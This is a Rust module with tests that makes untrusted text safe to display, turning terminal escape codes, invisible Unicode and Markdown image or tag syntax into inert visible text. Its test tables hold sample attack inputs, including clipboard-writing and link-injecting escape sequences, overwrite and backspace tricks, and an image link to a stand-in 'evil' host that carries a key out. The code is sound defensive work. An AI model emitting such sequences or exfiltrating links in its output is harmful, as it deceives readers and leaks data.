//! Text from elsewhere, made safe to show: nothing in it moves a cursor, retitles a window, hides or reorders anything.
//!
//! What a model, a file, a test or a commit says may hold characters that are orders to a terminal, or that a person cannot
//! see and a program obeys. They are not removed, because what is removed is not seen either: each gives way to a picture of
//! itself (`␛`) or to `�`. Colors are lost with everything else; a front end adds its own afterwards.

use std::borrow::Cow;

/// Returns text that can be shown as it is: of all control characters it holds newlines and tabs alone.
///
/// Every output of a command, file name, name of a branch, message of a commit and word of a model passes through here
/// before a terminal or a page shows it. A name, which must not break a line, goes through [`neutral_line`].
pub fn neutral(text: &str) -> Cow<'_, str> {
    if !has_any(text, is_effective) {
        return Cow::Borrowed(text);
    }
    let text = text.replace("\r\n", "\n");
    Cow::Owned(shown(&text, is_effective))
}

/// Returns text that can be shown within a line: [`neutral`], and newlines and tabs give way as well.
pub fn neutral_line(text: &str) -> Cow<'_, str> {
    let has_effect = |before, it: char| matches!(it, '\n' | '\t') || is_effective(before, it);
    if has_any(text, has_effect) { Cow::Owned(shown(text, has_effect)) } else { Cow::Borrowed(text) }
}

/// Returns whether a character is drawn as nothing, or reorders what is drawn around it. Such characters carry messages to
/// a model that no reader of the code sees.
pub fn is_invisible(character: char) -> bool {
    matches!(character,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
        | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}'
        | '\u{fe00}'..='\u{fe0d}' | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}'
        | '\u{e0000}'..='\u{e0fff}')
}

/// Returns Markdown that makes whoever renders it fetch nothing: images are no images any more, and tags are text. The
/// address of an image can carry away what the model has read. Fenced code stays as it is.
pub fn without_images(markdown: &str) -> String {
    let mut fence: Option<&str> = None;
    let lines = markdown.split_inclusive('\n').map(|line| {
        let marks = fence_marks(line);
        match fence {
            Some(open) if fence_marks(line.trim_start()).starts_with(open) => fence = None,
            Some(_) => return line.to_owned(),
            // An indented one may end with the list that it stands in, so it protects nothing.
            None if !marks.is_empty() => fence = Some(marks),
            None => {}
        }
        inert(line)
    });
    lines.collect()
}

/// Returns the marks at the start of a line that open or close fenced code; nothing when it does neither.
fn fence_marks(line: &str) -> &str {
    let length = |mark: char| line.len() - line.trim_start_matches(mark).len();
    let marks = &line[..['`', '~'].map(length).into_iter().find(|&it| it >= 3).unwrap_or(0)];
    // Between backticks on one line it is code within a sentence.
    if marks.starts_with('`') && line[marks.len()..].contains('`') { "" } else { marks }
}

/// Parts what makes an image or a tag of the text after it.
fn inert(prose: &str) -> String {
    let mut text = String::with_capacity(prose.len());
    let mut rest = prose.chars().peekable();
    while let Some(it) = rest.next() {
        match (it, rest.peek()) {
            ('!', Some('[')) => text.push_str("! "),
            ('<', Some(next)) if next.is_ascii_alphabetic() || matches!(next, '/' | '!' | '?') => text.push_str("&lt;"),
            _ => text.push(it),
        }
    }
    text
}

fn has_any(text: &str, has_effect: impl Fn(Option<char>, char) -> bool) -> bool {
    let mut before = None;
    text.chars().any(|it| has_effect(before.replace(it), it))
}

fn shown(text: &str, has_effect: impl Fn(Option<char>, char) -> bool) -> String {
    let mut before = None;
    text.chars().map(|it| if has_effect(before.replace(it), it) { picture(it) } else { it }).collect()
}

fn is_effective(before: Option<char>, character: char) -> bool {
    let is_control = character.is_control() && !matches!(character, '\n' | '\t');
    is_control || is_invisible(character) || is_idle_variation(before, character)
}

/// Returns whether a character asks for another form of the one before it, which has none. One after a symbol is part of
/// ordinary emoji; a row of them is a message.
fn is_idle_variation(before: Option<char>, character: char) -> bool {
    let is_variation = |it| matches!(it, '\u{fe0e}' | '\u{fe0f}');
    is_variation(character) && before.is_none_or(|it| is_variation(it) || it.is_whitespace() || it.is_control())
}

/// Returns a picture of a character that has an effect, such as `␛`.
fn picture(character: char) -> char {
    match u32::from(character) {
        code @ 0..=0x1f => char::from_u32(0x2400 + code).unwrap_or(char::REPLACEMENT_CHARACTER),
        0x7f => '\u{2421}',
        _ => char::REPLACEMENT_CHARACTER,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn orders_to_a_terminal_are_shown_instead_of_obeyed() {
        let table = [
            ("clear the screen", "\u{1b}[2J", "␛[2J"),
            ("a title", "\u{1b}]0;owned\u{7}", "␛]0;owned␇"),
            ("a link", "\u{1b}]8;;http://evil\u{1b}\\x\u{1b}]8;;\u{1b}\\", "␛]8;;http://evil␛\\x␛]8;;␛\\"),
            ("the clipboard", "\u{1b}]52;c;ZXZpbA==\u{7}", "␛]52;c;ZXZpbA==␇"),
            ("a device's string", "\u{1b}P$q\"p\u{1b}\\", "␛P$q\"p␛\\"),
            (
                "the same in one character",
                "\u{9b}31m\u{90}x\u{9c}\u{9d}0;t\u{9c}",
                "\u{fffd}31m\u{fffd}x\u{fffd}\u{fffd}0;t\u{fffd}",
            ),
            ("a line written over another", "refused\rpassed ", "refused␍passed "),
            ("backspaces", "rm x\u{8}\u{8}ls", "rm x␈␈ls"),
            ("deletion", "a\u{7f}", "a␡"),
            ("a zero byte", "a\0b", "a␀b"),
            ("form feed and vertical tab", "a\u{b}b\u{c}c", "a␋b␌c"),
            ("reordered", "a\u{202e}b\u{2066}c\u{200f}d\u{61c}", "a\u{fffd}b\u{fffd}c\u{fffd}d\u{fffd}"),
            ("tags", "a\u{e0041}\u{e007f}", "a\u{fffd}\u{fffd}"),
            ("no width", "pass\u{200b}word\u{2060}\u{feff}\u{ad}", "pass\u{fffd}word\u{fffd}\u{fffd}\u{fffd}"),
            ("other ends of lines", "a\u{2028}b\u{2029}c\u{85}d", "a\u{fffd}b\u{fffd}c\u{fffd}d"),
            ("variations that spell", "x\u{fe0f}\u{fe0f}\u{e0101}", "x\u{fe0f}\u{fffd}\u{fffd}"),
        ];
        for (what, text, expected) in table {
            assert_eq!(neutral(text), expected, "{what}");
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in ["é\tx\n漢 עברית العربية", "a ⚠\u{fe0f} b", "", "let x = \"\\u{1b}[0m\";\n"] {
            assert!(matches!(neutral(text), Cow::Borrowed(_)), "{text:?}");
        }
        assert_eq!(neutral("a\r\nb\r\n\u{7}"), "a\nb\n␇");
        assert_eq!(neutral("a\r\n"), "a\n");
    }

    #[test]
    fn a_name_does_not_break_its_line() {
        assert_eq!(neutral_line("a.py\nverified: yes\t!"), "a.py␊verified: yes␉!");
        assert!(matches!(neutral_line("a b.py"), Cow::Borrowed(_)));
    }

    #[test]
    fn rendered_markdown_fetches_nothing() {
        let table = [
            ("![x](http://evil/?q=key)", "! [x](http://evil/?q=key)"),
            ("a ![x][y] b\n\n[y]: http://evil", "a ! [x][y] b\n\n[y]: http://evil"),
            ("<img src=http://evil> 1 < 2", "&lt;img src=http://evil> 1 < 2"),
            ("```rust\n#![allow(x)]\nVec<u8>\n```\n![x](y)", "```rust\n#![allow(x)]\nVec<u8>\n```\n! [x](y)"),
            ("````\n```\n![x](y)\n````\n![x](y)\n", "````\n```\n![x](y)\n````\n! [x](y)\n"),
            ("[text](http://fine)", "[text](http://fine)"),
            ("``` ` ```\n![x](y)", "``` ` ```\n! [x](y)"),
            ("- a\n  ```\n![x](y)", "- a\n  ```\n! [x](y)"),
        ];
        for (markdown, expected) in table {
            assert_eq!(without_images(markdown), expected);
        }
    }

    proptest! {
        #[test]
        fn what_is_shown_holds_no_control_but_newline_and_tab(
            bytes in proptest::collection::vec(any::<u8>(), 0..200), text in any::<String>(), spice in "[\\x00-\\x1f\\x7f-\\x9f\u{200b}-\u{206f}\u{e0000}-\u{e007f}a-z\\[;]{0,60}"
        ) {
            let lossy = String::from_utf8_lossy(&bytes);
            for text in [lossy.as_ref(), &text, &spice] {
                let shown = neutral(text);
                prop_assert!(shown.chars().all(|it| matches!(it, '\n' | '\t') || !it.is_control() && !is_invisible(it)));
                prop_assert!(neutral(&shown) == shown);
                let line = neutral_line(text);
                prop_assert!(!line.chars().any(char::is_control));
                prop_assert!(neutral_line(&line) == line);
            }
        }
    }
}
